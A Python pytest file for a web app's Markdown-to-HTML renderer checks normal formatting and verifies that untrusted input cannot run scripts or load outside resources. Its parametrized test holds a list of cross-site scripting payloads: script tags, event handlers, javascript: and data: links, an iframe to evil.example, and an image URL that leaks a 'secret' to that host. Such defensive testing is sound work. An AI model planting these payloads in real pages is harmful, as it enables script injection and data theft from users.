"""Markdown for the web page: readable, and unable to do anything."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from task.api.web.page import blocks_of


class Elements(HTMLParser):
    """The elements of a text with their attributes, as a browser finds them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def html_of(text: str) -> str:
    return "".join(block.html for block in blocks_of(text))


def test_headings_lists_tables_and_code_are_rendered() -> None:
    html = html_of(
        "# Sales\n\n- **A**: 1\n\n|a|b|\n|-|-:|\n|1|2|\n\n```py\nprint('<b>')\n```\n~~old~~ https://a.example/x"
    )
    assert "<h1>Sales</h1>" in html
    assert "<li><strong>A</strong>: 1</li>" in html
    assert '<td align="right">2</td>' in html
    assert "<code class=\"language-py\">print('&lt;b&gt;')\n</code>" in html
    assert "<s>old</s>" in html
    assert '<a href="https://a.example/x" rel="noopener noreferrer nofollow">' in html


def test_every_block_has_the_line_where_it_begins() -> None:
    assert [block.line for block in blocks_of("one\n\ntwo\nlines\n\n\n- three")] == [0, 2, 6]
    assert blocks_of("") == []


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        '<iframe src="https://evil.example"></iframe>',
        "[here](javascript:alert(1))",
        "[here](JaVaScRiPt&colon;alert(1))",
        "[here](data:text/html;base64,PHNjcmlwdD4=)",
        "[here](data:image/png;base64,AAAA)",
        "![x](https://evil.example/x.png?d=secret)",
        "![x](//evil.example/x.png)",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        '[a](https://a.example "x\\" onmouseover=alert(1)")',
        "<style>body{display:none}</style>",
        "```html onload=alert(1)\n<b>\n```",
    ],
)
def test_nothing_acts_and_nothing_is_fetched(text: str) -> None:
    found = Elements(html_of(text)).found
    assert {tag for tag, _ in found} <= {"p", "a", "span", "pre", "code"}
    assert {name for _, attributes in found for name in attributes} <= {"href", "title", "rel", "class"}
    assert all(attributes.get("href", "https:").startswith("https:") for _, attributes in found)


def test_a_picture_from_elsewhere_is_named_and_one_that_came_along_is_shown() -> None:
    assert "Chart (a picture at evil.example, not loaded)" in html_of("![Chart](https://evil.example/c.png)")
    assert '<img src="data:image/png;base64,AAAA" alt="Chart">' in html_of("![Chart](data:image/png;base64,AAAA)")
